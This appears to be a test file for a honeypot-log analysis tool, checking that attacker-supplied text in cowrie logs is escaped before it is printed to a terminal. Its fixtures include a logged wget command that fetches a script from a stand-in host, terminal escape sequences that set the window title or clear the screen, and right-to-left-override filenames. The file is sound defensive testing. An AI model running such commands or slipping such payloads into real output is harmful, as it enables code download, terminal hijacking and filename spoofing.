/**
 * Attacker-chosen text reaches the terminal only as printable characters: a campaign's name
 * or indicator carrying an escape sequence (real cowrie logs hold client versions with ESC
 * in them) is shown escaped in `analyze`'s table, never sent to the user's terminal.
 */
import { describe, expect, test } from "bun:test"
import { mkdtempSync, writeFileSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { renderCampaignTable } from "../../src/cli/campaignTable.ts"
import type { Campaign } from "../../src/domain/Campaign.ts"
import { printable } from "../../src/domain/printable.ts"
import type { Result } from "../../src/domain/Result.ts"

const ESC = "\u001b"

describe("printable", () => {
  test("control characters become \\xHH; other text, including non-ASCII, is kept", () => {
    expect(printable(`SSH-2.0-${ESC}[31mred${ESC}[0m\r\n\u0007\u009b`)).toBe("SSH-2.0-\\x1b[31mred\\x1b[0m\\x0d\\x0a\\x07\\x9b")
    expect(printable("root/пароль ü")).toBe("root/пароль ü")
  })

  test("characters that reorder or hide text become \\uHHHH; backslashes and quotes stay as typed", () => {
    expect(printable("echo '\u0007bell' > /tmp/.marker_\u202eevil")).toBe("echo '\\x07bell' > /tmp/.marker_\\u202eevil")
    expect(printable("a\u200bb\u2066c\ufeff")).toBe("a\\u200bb\\u2066c\\ufeff")
    expect(printable(`echo -e '\\x67' "quoted"`)).toBe(`echo -e '\\x67' "quoted"`)
  })

  test("techniques shows command lines as the campaign table does", () => {
    const dir = mkdtempSync(join(tmpdir(), "dshield-terminal-"))
    const line = (session: string, input: string) =>
      JSON.stringify({ eventid: "cowrie.command.input", session, src_ip: "192.0.2.7", timestamp: "2024-04-01T00:00:01.000000Z", input })
    const connect = (session: string) =>
      JSON.stringify({ eventid: "cowrie.session.connect", session, src_ip: "192.0.2.7", src_port: 4000, dst_ip: "198.51.100.1", dst_port: 22, protocol: "ssh", timestamp: "2024-04-01T00:00:00.000000Z" })
    writeFileSync(join(dir, "log.json"), [connect("aa11"), line("aa11", `wget http://203.0.113.9/${ESC}[31mx.sh`), line("aa11", `echo "a\\b" > /tmp/.m_\u202eexe`)].join("\n"))
    const run = Bun.spawnSync([process.execPath, join(import.meta.dir, "../../src/cli/main.ts"), "techniques", join(dir, "log.json")], { stdout: "pipe", stderr: "pipe" })
    expect(run.exitCode).toBe(0)
    const out = run.stdout.toString()
    expect(out).toContain("wget http://203.0.113.9/\\x1b[31mx.sh")
    expect(out).toContain(`echo "a\\b" > /tmp/.m_\\u202eexe`)
    expect(out).not.toContain(ESC)
    expect(out).not.toContain("\u202e")
  })

  test("the campaign table shows a hostile name and indicator escaped", () => {
    const campaign = {
      id: "c-0000000000000001",
      parent_id: null,
      level: "family",
      name: `client SSH-2.0-${ESC}]0;owned${"\u0007"}`,
      sessions: ["s-1", "s-2"],
      source_ips: ["192.0.2.1", "192.0.2.2"],
      first_seen: "2022-07-19T00:00:00.000Z",
      last_seen: "2022-07-19T01:00:00.000Z",
      confidence: 0.9,
      confidence_interval: [0.8, 0.95],
      assessment: "highly_coordinated",
      evidence: {},
      indicators: [{ type: "client_version", value: `SSH-2.0-${ESC}[2J`, first_seen: "2022-07-19T00:00:00.000Z", last_seen: "2022-07-19T01:00:00.000Z", sessions: 2 }],
      ttps: [],
      techniques: [],
      formed_by: []
    } as unknown as Campaign
    const result = { campaigns: [campaign], input: { events: 2, sessions: 2, files: [], rejected: {} }, unclustered_sessions: 0 } as unknown as Result
    const table = renderCampaignTable(result, 10)
    expect(table).not.toContain(ESC)
    expect(table).not.toContain("\u0007")
    expect(table).toContain("client SSH-2.0-\\x1b]0;owned\\x07")
    expect(table).toContain("SSH-2.0-\\x1b[2J")
  })
})

describe("the table's summary line", () => {
  const result = (sessions: number, rejected: Record<string, number>) =>
    ({ campaigns: [], input: { events: 40333, sessions, files: [{ path: "a.json" }], rejected }, unclustered_sessions: sessions } as unknown as Result)

  test("says when the sessions include the stored history, counts lines in the singular, and says when no session was read", () => {
    expect(renderCampaignTable(result(11041, { malformed_json: 1 }), 10, true)).toContain(
      "40333 events from 1 file(s); 11041 sessions with the stored history, 0 families, 0 campaigns in all; 11041 sessions unclustered; 1 line rejected."
    )
    expect(renderCampaignTable(result(7700, {}), 10)).toContain("40333 events from 1 file(s); 7700 sessions, 0 families")
    expect(renderCampaignTable(result(7700, {}), 10)).toContain("No campaigns found: no two sessions share an artefact")
    expect(renderCampaignTable(result(0, {}), 10)).toContain("No sessions were read: the input holds no events of a known format")
  })
})
